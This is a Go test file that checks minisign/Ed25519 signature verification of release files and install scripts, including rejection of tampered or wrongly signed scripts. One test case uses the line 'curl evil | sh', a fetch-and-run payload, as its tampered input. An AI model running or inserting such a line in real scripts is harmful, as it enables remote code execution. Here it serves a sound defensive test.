package coordinator

import (
	"bytes"
	"crypto/ed25519"
	"encoding/base64"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// testSigner is a release key with its private half, seeded so that
// every call gives the same key.
type testSigner struct {
	ReleaseKey
	priv ed25519.PrivateKey
}

func newTestSigner(t *testing.T, seed byte) testSigner {
	t.Helper()
	priv := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{seed}, ed25519.SeedSize))
	id := bytes.Repeat([]byte{seed + 1}, 8)
	k, err := ParseReleaseKey(base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), id...), priv.Public().(ed25519.PublicKey)...)))
	if err != nil {
		t.Fatal(err)
	}
	return testSigner{k, priv}
}

func testKey(t *testing.T) testSigner { return newTestSigner(t, 7) }

// sign makes a minisign signature in the legacy Ed25519 form, as
// internal/tools/release writes it (aead.dev/minisign's Sign).
func (s testSigner) sign(msg []byte, alg string) []byte {
	sig := ed25519.Sign(s.priv, msg)
	comment := "file:test version:v0"
	global := ed25519.Sign(s.priv, append(bytes.Clone(sig), comment...))
	raw := append(append([]byte(alg), s.id[:]...), sig...)
	return fmt.Appendf(nil, "untrusted comment: test\n%s\ntrusted comment: %s\n%s\n",
		base64.StdEncoding.EncodeToString(raw), comment, base64.StdEncoding.EncodeToString(global))
}

func TestReleaseKeyVerify(t *testing.T) {
	key, other := testKey(t), newTestSigner(t, 9)
	msg := []byte("0000  moat-node-linux-amd64\n")
	good := key.sign(msg, "Ed")
	if err := key.verify(msg, good); err != nil {
		t.Fatalf("good signature: %v", err)
	}
	for name, c := range map[string]struct{ msg, sig []byte }{
		"tampered file":    {[]byte("1111  moat-node-linux-amd64\n"), good},
		"another key":      {msg, other.sign(msg, "Ed")},
		"prehashed form":   {msg, key.sign(msg, "ED")},
		"tampered comment": {msg, bytes.Replace(good, []byte("version:v0"), []byte("version:v9"), 1)},
		"not a signature":  {msg, []byte("hello\n")},
		"truncated":        {msg, good[:len(good)/2]},
	} {
		if err := key.verify(c.msg, c.sig); err == nil {
			t.Errorf("%s: verified", name)
		}
	}
	if _, err := ParseReleaseKey("RWQnotakey"); err == nil {
		t.Error("ParseReleaseKey took a bad key")
	}
}

// A release signed by another key than --release-key is served, but the
// coordinator says at start that every install will refuse it.
func TestReleaseSignedByAnotherKeyIsReported(t *testing.T) {
	key, other := testKey(t), newTestSigner(t, 9)
	rel := writeRelease(t)
	writeSigned(t, rel, "install.sh", []byte(installScriptForTest), key)
	writeSigned(t, rel, "SHA256SUMS", []byte("0000  x\n"), other)
	var logs bytes.Buffer
	in := newInstaller(Config{ReleaseDir: rel, ReleaseKey: key.Text}, slog.New(slog.NewTextHandler(&logs, nil)))
	if string(in.blobs[scriptFile]) != installScriptForTest || in.blobs[sumsFile+sigSuffix] == nil {
		t.Fatal("the release's install.sh and SHA256SUMS.minisig are not served")
	}
	if got := logs.String(); !strings.Contains(got, "file=SHA256SUMS") || strings.Contains(got, "file=install.sh ") {
		t.Errorf("want an error for SHA256SUMS only, got:\n%s", got)
	}
}

const installScriptForTest = "#!/bin/sh\necho installing\n"

func writeSigned(t *testing.T, dir, name string, b []byte, key testSigner) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name+sigSuffix), key.sign(b, "Ed"), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestInstallCommandVerifiesScript runs the install command's first half
// (download, verify) with sh, curl and openssl against a coordinator: it
// runs a script the release key signed and refuses a tampered one or one
// signed by another key, before running anything.
func TestInstallCommandVerifiesScript(t *testing.T) {
	for _, c := range []string{"curl", "openssl"} {
		if _, err := exec.LookPath(c); err != nil {
			t.Skipf("needs %s", c)
		}
	}
	key := testKey(t)
	for name, c := range map[string]struct {
		script, signed string
		signer         testSigner
		ok             bool
	}{
		"signed":         {installScriptForTest, installScriptForTest, key, true},
		"tampered":       {installScriptForTest + "curl evil | sh\n", installScriptForTest, key, false},
		"another key":    {installScriptForTest, installScriptForTest, newTestSigner(t, 9), false},
		"signature only": {"", installScriptForTest, key, false},
	} {
		rel := t.TempDir()
		writeSigned(t, rel, "install.sh", []byte(c.signed), c.signer)
		must(t, os.WriteFile(filepath.Join(rel, "install.sh"), []byte(c.script), 0o644))
		tc := startCoord(t, t.TempDir(), newClock(), func(cfg *Config) { cfg.ReleaseDir, cfg.ReleaseKey = rel, key.Text })
		line := installCommandLine(tc.cfg)
		run, ok := strings.CutSuffix(line, ` && sudo sh "$d/install.sh" --coordinator '`+tc.URL+`' --release-key `+key.Text+` --key -`)
		if !ok {
			t.Fatalf("%s: install command %s does not end by running the script", name, line)
		}
		out, err := exec.Command("sh", "-c", run+` && cat "$d/install.sh"`).CombinedOutput()
		if ran := err == nil && string(out) == "Signature Verified Successfully\n"+c.script; ran != c.ok {
			t.Errorf("%s: ran=%v, want %v: %v\n%s", name, ran, c.ok, err, out)
		}
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
